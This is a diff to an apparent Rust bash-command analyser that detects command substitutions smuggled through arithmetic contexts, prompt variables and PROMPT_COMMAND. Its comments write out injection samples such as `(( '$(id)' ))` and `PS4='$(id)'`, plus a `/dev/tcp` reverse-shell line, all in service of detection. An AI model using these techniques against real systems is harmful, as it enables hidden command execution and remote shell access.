@@ -15,6 +15,7 @@ use text::{decode_ansi_c, is_fd_target, unescape_double_quoted, unescape_unquote
 use super::AstError;
 use super::kinds as k;
 use crate::model::vocab::AnalysisContext;
+use crate::shell::arith;
 
 pub(crate) use crate::shell::ir::{
     Cwd, Function, InlineInput, Opacity, Plan, Redirect, RedirectKind, SimpleCommand, Word,
@@ -257,6 +258,13 @@ impl<'s> Walker<'s, '_> {
                 });
                 push_children(node, depth, in_subst, stack);
             }
+            k::COMPOUND_STATEMENT if self.text(node).starts_with("((") => {
+                // `(( ))` expands its whole expression before it evaluates it, quotes
+                // or not: `(( '$(id)' ))` runs `id`.
+                self.plan.compound("{ }");
+                self.arithmetic_strings(node, true);
+                push_children(node, depth, in_subst, stack);
+            }
             k::COMPOUND_STATEMENT => {
                 self.plan.compound("{ }");
                 self.note_separators(node);
@@ -388,10 +396,27 @@ impl<'s> Walker<'s, '_> {
             | k::POSTFIX_EXPRESSION
             | k::PARENTHESIZED_EXPRESSION
             | k::TERNARY_EXPRESSION
-            | k::SUBSCRIPT
-            | k::ARRAY
             | k::HEREDOC_BODY
             | k::COMMAND_NAME => {
+                push_children(node, depth, in_subst, stack);
+            }
+            k::SUBSCRIPT => {
+                // An indexed array's subscript is arithmetic on its expanded text:
+                // `a['$(id)']=1` and `${a['$(id)']}` run `id`.
+                if let Some(index) = node.child_by_field_name("index") {
+                    self.arithmetic_strings(index, true);
+                }
+                push_children(node, depth, in_subst, stack);
+            }
+            k::ARRAY => {
+                // `a=(['$(id)']=1)`: each `[KEY]=` is a subscript.
+                let mut cursor = node.walk();
+                let elements: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
+                for el in elements {
+                    if self.text(el).starts_with('[') {
+                        self.arithmetic_strings(el, true);
+                    }
+                }
                 push_children(node, depth, in_subst, stack);
             }
             other => return Err(AstError::UnknownNode(other.to_string())),
@@ -425,6 +450,16 @@ impl<'s> Walker<'s, '_> {
                     .next()
                     .map(|d| self.word(d, depth + 1, in_subst, stack));
                 for extra in dests {
+                    // `bash -i >& /dev/tcp/h/1 0>&1`: the grammar hangs the `0` of the
+                    // next redirect on this one, where bash reads `0>&1` (a digit word
+                    // touching a redirect is its descriptor), not an argument `0`.
+                    let next_fd = self.text(extra).bytes().all(|b| b.is_ascii_digit())
+                        && node.next_sibling().is_some_and(|n| {
+                            n.kind() == k::FILE_REDIRECT && n.start_byte() == extra.end_byte()
+                        });
+                    if next_fd {
+                        continue;
+                    }
                     let w = self.word(extra, depth + 1, in_subst, stack);
                     extra_words.push(w);
                 }
@@ -573,11 +608,24 @@ impl<'s> Walker<'s, '_> {
             heredoc: false,
         };
         let kind = node.kind();
+        if kind == k::TEST_COMMAND {
+            self.test_operands(node);
+        }
         let mut cursor = node.walk();
         let children: Vec<Node<'t>> = node.children(&mut cursor).collect();
+        // `declare -i x=V`, `local -n r=V`: the value is arithmetic, or a name whose
+        // subscript is, when it is assigned or used.
+        let numeric = kind == k::DECLARATION_COMMAND
+            && children.iter().any(|c| {
+                c.kind() == k::WORD && {
+                    let t = self.text(*c);
+                    t.starts_with(['-', '+']) && t.contains(['i', 'n'])
+                }
+            });
         for child in children {
             match child.kind() {
                 k::VARIABLE_ASSIGNMENT => {
+                    self.assignment_value(child, numeric);
                     let w = self.word(child, depth + 1, in_subst, stack);
                     cmd.assignments.push(w);
                 }
@@ -585,6 +633,7 @@ impl<'s> Walker<'s, '_> {
                     let mut c2 = child.walk();
                     let kids: Vec<Node<'t>> = child.named_children(&mut c2).collect();
                     for a in kids {
+                        self.assignment_value(a, numeric);
                         let w = self.word(a, depth + 1, in_subst, stack);
                         cmd.assignments.push(w);
                     }
@@ -624,6 +673,9 @@ impl<'s> Walker<'s, '_> {
                 }
                 _ if kind == k::VARIABLE_ASSIGNMENT => {
                     // A standalone assignment: its value may hold a substitution.
+                    if node.child_by_field_name(k::FIELD_VALUE) == Some(child) {
+                        self.assignment_value(node, false);
+                    }
                     let _ = self.word(child, depth + 1, in_subst, stack);
                 }
                 _ => {
@@ -650,6 +702,126 @@ impl<'s> Walker<'s, '_> {
         self.track_cwd(&cmd);
         self.plan.commands.push(cmd);
         Ok(())
+    }
+
+    /// The code bash runs when it evaluates the strings in `node` as arithmetic
+    /// (`shell::arith`). With `any` false, only when an array subscript holds a
+    /// substitution (a string operand is not expanded, only its subscripts are).
+    fn arithmetic_strings(&mut self, node: Node<'_>, any: bool) {
+        if !any && !arith::runs_in_subscript(&arith::dequote(self.text(node))) {
+            return;
+        }
+        self.expanded_again(node, "is evaluated as arithmetic");
+    }
+
+    /// The substitutions in the parts of `node` the grammar took as data (quoted
+    /// strings, escaped `\$(`), which bash expands once more (`why`), read again as
+    /// code; the command is then obfuscated.
+    fn expanded_again(&mut self, node: Node<'_>, why: &str) {
+        let mut found = Vec::new();
+        let mut stack = vec![node];
+        while let Some(n) = stack.pop() {
+            let piece = match n.kind() {
+                k::RAW_STRING => Some(arith::dequote(self.text(n))),
+                k::STRING_CONTENT | k::WORD => {
+                    let t = self.text(n);
+                    t.contains('\\').then(|| arith::dequote(t))
+                }
+                k::ANSI_C_STRING => {
+                    let mut decoded = String::new();
+                    decode_ansi_c(self.text(n), &mut decoded);
+                    Some(decoded)
+                }
+                _ => None,
+            };
+            match piece {
+                Some(p) => found.extend(arith::substitutions(&p)),
+                None => {
+                    let mut cursor = n.walk();
+                    stack.extend(n.named_children(&mut cursor));
+                }
+            }
+        }
+        if found.is_empty() {
+            return;
+        }
+        self.plan.obfuscated(Opacity::Other(format!(
+            "holds `{}`, which {why}: the command substitution in it runs",
+            self.text(node)
+        )));
+        for code in found {
+            self.plan.code.push((code, self.cwd.clone()));
+        }
+    }
+
+    /// `[[ -v NAME ]]` and the operands of `-eq`, `-ne`, `-lt`, `-le`, `-gt`, `-ge` are
+    /// evaluated as arithmetic; string comparisons are not.
+    fn test_operands(&mut self, node: Node<'_>) {
+        let mut stack = vec![node];
+        while let Some(n) = stack.pop() {
+            let mut cursor = n.walk();
+            let kids: Vec<Node<'_>> = n.named_children(&mut cursor).collect();
+            let arithmetic = match n.kind() {
+                k::UNARY_EXPRESSION | k::BINARY_EXPRESSION => kids.iter().any(|c| {
+                    c.kind() == k::TEST_OPERATOR
+                        && matches!(
+                            self.text(*c),
+                            "-v" | "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge"
+                        )
+                }),
+                _ => false,
+            };
+            for c in kids {
+                if arithmetic && c.kind() != k::TEST_OPERATOR {
+                    self.arithmetic_strings(c, false);
+                } else {
+                    stack.push(c);
+                }
+            }
+        }
+    }
+
+    /// Values that are code later, although quoted now:
+    /// - with `numeric` (`declare -i x=V`, `local -n r=V`) the value is arithmetic, or
+    ///   a name whose subscript is, as soon as it is assigned or used;
+    /// - `PS0`…`PS4` are expanded, substitutions included, when the shell prompts or
+    ///   traces (`PS4='$(id)'; set -x; :` runs `id`), and `PROMPT_COMMAND` is run;
+    /// - otherwise `x='a[$(id)]'` is harmless until `x` is used as a number (`(( x ))`,
+    ///   `[[ x -eq 1 ]]`, `a[x]`, a `declare -i x` earlier), which runs the
+    ///   substitution. Whether it is used so is the evaluator's to know: opaque.
+    fn assignment_value(&mut self, assignment: Node<'_>, numeric: bool) {
+        if assignment.kind() != k::VARIABLE_ASSIGNMENT {
+            return;
+        }
+        let Some(value) = assignment.child_by_field_name(k::FIELD_VALUE) else {
+            return;
+        };
+        let name = assignment
+            .child_by_field_name(k::FIELD_NAME)
+            .map(|n| self.text(n))
+            .unwrap_or_default();
+        if numeric {
+            self.arithmetic_strings(value, false);
+        } else if matches!(name, "PS0" | "PS1" | "PS2" | "PS3" | "PS4") {
+            self.expanded_again(
+                value,
+                "is a prompt, expanded again when the shell prompts or traces",
+            );
+        } else if name == "PROMPT_COMMAND" {
+            let code = arith::dequote(self.text(value));
+            if !code.trim().is_empty() {
+                self.plan.obfuscated(Opacity::Other(
+                    "sets `PROMPT_COMMAND`, code an interactive shell runs before each prompt"
+                        .to_string(),
+                ));
+                self.plan.code.push((code, self.cwd.clone()));
+            }
+        } else if arith::runs_in_subscript(&arith::dequote(self.text(value))) {
+            self.plan.obfuscated(Opacity::Other(format!(
+                "assigns `{}`, whose array subscript runs a command wherever the value is used as a number",
+                self.text(assignment)
+            )));
+        }
     }
 
     /// `cd`, `pushd`, `popd` move the cwd for the commands after them.
@@ -916,11 +1088,18 @@ fn is_home_word(w: &str) -> bool {
 }
 
 /// The operator token of a redirect (`>`, `>>`, `&>`, `>&`, `<`, `>|`, `<>`, …).
+/// The grammar has no `<>`: it reads `<` and an ERROR `>` right after it (see
+/// `ast::only_read_write_redirects`), which is `<>` here.
 fn operator_of(node: Node<'_>, src: &str) -> String {
     let mut cursor = node.walk();
     for child in node.children(&mut cursor) {
         if !child.is_named() {
-            return src.get(child.byte_range()).unwrap_or("").to_string();
+            let op = src.get(child.byte_range()).unwrap_or("").to_string();
+            let read_write = op == "<"
+                && child
+                    .next_sibling()
+                    .is_some_and(|n| n.is_error() && n.start_byte() == child.end_byte());
+            return if read_write { "<>".to_string() } else { op };
         }
     }
     String::new()
